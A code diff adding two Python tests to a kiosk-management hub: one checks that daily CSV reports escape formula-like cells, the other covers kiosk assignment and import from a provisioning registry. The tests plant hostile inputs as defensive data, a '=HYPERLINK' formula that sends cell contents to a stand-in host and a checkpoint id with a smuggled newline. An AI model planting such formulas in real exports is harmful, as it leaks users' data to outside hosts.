@@ -22,6 +22,7 @@ from hub.ingest import store_events
 from hub.operators import AuthError, login
 from hub.schema import audit_log, migrate
 from kiosk.clitools import EscapingFilter
+from provisioning.registry import KioskRecord, KioskRegistry
 from tests.hub.factory import T0, make_event
 
 PERSON = "001234567890"
@@ -217,6 +218,66 @@ def test_kiosks_shows_versions_and_marks_silent_kiosks_stale(hub_config: Path) -
     assert rows["kiosk-1"]["flags_version"] == 7 and rows["kiosk-1"]["software"] == "0.1.0"
     assert rows["kiosk-2"]["stale"] is True
     assert "online STALE" in run(hub_config, "kiosks")
+
+
+def test_daily_report_csv_cells_are_never_formulas(hub_config: Path) -> None:
+    """Issue 12 item 5: a kiosk planted `=HYPERLINK(...)` in the daily CSV (the dashboard's download too)."""
+    db = db_of(hub_config)
+    planted = [
+        '=HYPERLINK("http://x.example/?"&A1,"open")',
+        "+1",
+        "-1",
+        "@SUM(A1)",
+        "\tx",
+        "\rx",
+        "fine-code",
+    ]
+    store_events(db, [make_event(1, verdict="DENY", reasons=planted)], now=T0)
+    db.dispose()
+    out = run(hub_config, "report", "daily", "--date", "2026-11-20", "--format", "csv")
+    keys = [r["key"] for r in csv.DictReader(io.StringIO(out)) if r["dimension"] == "reason"]
+    assert sorted(keys) == sorted(
+        [
+            '\'=HYPERLINK("http://x.example/?"&A1,"open")',
+            "'+1",
+            "'-1",
+            "'@SUM(A1)",
+            "'\\tx",
+            "'\\rx",
+            "fine-code",
+        ]
+    )
+
+
+def test_kiosks_assign_and_import_from_the_provisioning_registry(hub_config: Path, tmp_path: Path) -> None:
+    registry = (
+        KioskRegistry(tmp_path / "prov" / "provision.db") if (tmp_path / "prov").mkdir() is None else None
+    )
+    assert registry is not None
+    for kiosk_id, checkpoint, status in (
+        ("kiosk-1", "cp-1", "active"),
+        ("kiosk-9", "cp-9", "decommissioned"),
+    ):
+        registry.enroll(KioskRecord(kiosk_id, checkpoint, "A", "", "self", "hub.vn", 8883, status=status))
+    assert "1 kiosks assigned" in run(hub_config, "kiosks", "import", str(tmp_path / "prov"))
+    assert "kiosk-2: cp-2 (zone HN-02)" in run(
+        hub_config, "kiosks", "assign", "kiosk-2", "cp-2", "--zone", "HN-02"
+    )
+    assert "checkpoint id" in run(hub_config, "kiosks", "assign", "kiosk-2", "cp-2\n", ok=False)
+    assert "no provisioning registry" in run(hub_config, "kiosks", "import", str(tmp_path), ok=False)
+    seed(hub_config)  # kiosk-1's events claim cp-1 (right), kiosk-2's claim cp-2 (right)
+    db = db_of(hub_config)
+    store_events(db, [make_event(9, kiosk="kiosk-2", checkpoint="cp-7")], now=T0, from_kiosk="kiosk-2")
+    db.dispose()
+    rows = {r["kiosk_id"]: r for r in json.loads(run(hub_config, "kiosks", "--json"))}
+    assert {k: (r["checkpoint_id"], r["assigned"], r["wrong_claims"]) for k, r in rows.items()} == {
+        "kiosk-1": ("cp-1", True, 0),
+        "kiosk-2": ("cp-2", True, 1),
+    }
+    assert [a["action"] for a in json.loads(run(hub_config, "audit", "--action", "kiosk", "--json"))] == [
+        "kiosk.assign",
+        "kiosk.import",
+    ]
 
 
 def test_passages_hide_names_and_mask_ids(hub_config: Path) -> None:
